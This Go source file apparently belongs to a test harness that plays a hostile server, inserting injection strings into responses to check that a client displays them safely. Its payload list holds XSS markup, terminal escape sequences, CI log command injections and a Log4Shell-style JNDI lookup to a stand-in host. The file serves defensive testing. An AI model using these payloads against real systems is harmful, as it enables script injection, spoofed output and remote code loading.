package hostile

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync/atomic"
)

// mark stands in every hostile text, so that it is found wherever it ends up.
const mark = "hostile7mark"

// payloads are texts that must stay texts, whatever shows them.
var payloads = []string{
	"\x1b[2J\x1b[31m" + mark + "\x1b]0;" + mark + "\x07\x1b]8;;http://evil.invalid\x07",
	"\u009b31m" + mark + "\u0085\u202e" + mark + "\u2028\u200b\ufeff",
	"<script>alert('" + mark + "')</script><svg onload=alert('" + mark + "')>",
	"\"'><img src=x onerror=\"alert('" + mark + "')\"><iframe src=javascript:alert('" + mark + "')>",
	"</textarea></title></style></script></details></pre><x-" + mark + " on" + mark + "=1>",
	"]]>" + mark + "]]><!-- -->&lt;&#27;<![CDATA[" + mark,
	"\x00\x01\x08" + mark + "\x7f\ufffe\uffff",
	"\r\n\r\n::error file=" + mark + "::" + mark + "\r\n##vso[task.setvariable variable=" + mark + "]1",
	"| " + mark + " |\n|---|\n```\n# " + mark + "\n```\n[" + mark + "](javascript:alert(1)) ![" + mark + "](http://evil.invalid/a.png)",
	"`" + mark + "` ``<img src=http://evil.invalid/" + mark + ">`` \\`<b>" + mark + "</b>",
	"{{.}}${jndi:ldap://evil.invalid/" + mark + "}%s%n$(" + mark + ");'" + mark + "`" + mark + "`",
	strings.Repeat("\x1b["+mark, 5000),
}

// textTargets put hostile texts wherever a server can put a text.
func textTargets() []Target {
	everyText := func(place string, spoil func(v any, text string) any) Target {
		return Target{
			Exits: []int{0, 1},
			ID:    "text/" + place, Sentence: "answers with escape sequences, HTML, XML and Markdown in " + strings.ReplaceAll(place, "-", " "),
			Says: words(`\w+-\d+: `),
			Arms: arms{answer: func(*site) behaviour {
				var n atomic.Int64
				return func(w http.ResponseWriter, r *http.Request, next http.Handler) {
					rec := record(r, next)
					text := payloads[int(n.Add(1))%len(payloads)]
					var v any
					if json.Unmarshal(rec.body, &v) == nil {
						rec.body = marshal(spoil(v, text))
					}
					rec.send(w)
				}
			}},
		}
	}
	page := func(*site) behaviour {
		return func(w http.ResponseWriter, r *http.Request, _ http.Handler) {
			io.Copy(io.Discard, r.Body) //nolint:errcheck // a request that is cut off is answered all the same
			w.Header().Set("Content-Type", "text/html; charset="+mark)
			w.WriteHeader(http.StatusForbidden)
			io.WriteString(w, "<!doctype html><title>"+mark+"</title>"+strings.Join(payloads, "\n"))
		}
	}
	return []Target{
		everyText("string-values", func(v any, text string) any {
			return eachString(v, func(_, s string) string { return text + s })
		}),
		everyText("names-and-messages", func(v any, text string) any {
			return eachString(v, func(name, s string) string {
				if name == "name" || name == "hostname" || name == "regularExpression" || name == "message" || name == "relatedField" || name == "type" {
					return text
				}
				return s
			})
		}),
		everyText("member-names", func(v any, text string) any { return eachMember(v, text) }),
		everyText("related-fields", func(v any, text string) any {
			return eachString(v, func(name, s string) string {
				if name == "relatedField" {
					return text + "." + s // a form that is open
				}
				return s
			})
		}),
		{
			ID: "text/headers", Sentence: "answers with escape sequences and HTML in headers and the reason phrase",
			Says: words(`HTTP-|JSON-|malformed`),
			Arms: arms{answer: func(s *site) behaviour {
				var n atomic.Int64
				return s.raw(func(c net.Conn) {
					text := strings.NewReplacer("\r", "", "\n", "").Replace(payloads[int(n.Add(1))%len(payloads)])
					text = text[:min(len(text), 1000)]
					body := `{"data":{}}`
					fmt.Fprintf(c, "HTTP/1.1 200 %[1]s\r\nContent-Type: %[1]s\r\nContent-Encoding: %[1]s\r\nX-More: %[1]s\r\nLocation: %[1]s\r\nContent-Length: %[2]d\r\n\r\n%[3]s",
						text, len(body), body)
				})
			}},
		},
		{
			ID: "text/html-pages/everywhere", Sentence: "answers all with a page that holds scripts",
			Says: words(`baseURL: every path beneath it is answered 403`), Exits: mistaken, Arms: arms{answer: page},
		},
		{
			ID: "text/html-pages/" + byNetHTTP, Sentence: "answers " + byNetHTTP + " with a page that holds scripts",
			Says: words(`HTTP-3: .*text/html`), Exits: found, Arms: arms{at: byNetHTTP, answer: page},
		},
	}
}

func marshal(v any) []byte {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err) // it was decoded from JSON
	}
	return b
}

// eachString replaces every string of a value; change is given the name of the
// member that holds it.
func eachString(v any, change func(name, s string) string) any {
	var walk func(name string, v any) any
	walk = func(name string, v any) any {
		switch v := v.(type) {
		case string:
			return change(name, v)
		case []any:
			for i := range v {
				v[i] = walk(name, v[i])
			}
		case map[string]any:
			for n := range v {
				v[n] = walk(n, v[n])
			}
		}
		return v
	}
	return walk("", v)
}

// eachMember gives every object a member of this name, and takes its last one.
func eachMember(v any, name string) any {
	switch v := v.(type) {
	case []any:
		for i := range v {
			v[i] = eachMember(v[i], name)
		}
	case map[string]any:
		for n := range v {
			v[n] = eachMember(v[n], name)
		}
		v[name] = 1
		v["name"] = map[string]any{name: []any{name}}
	}
	return v
}
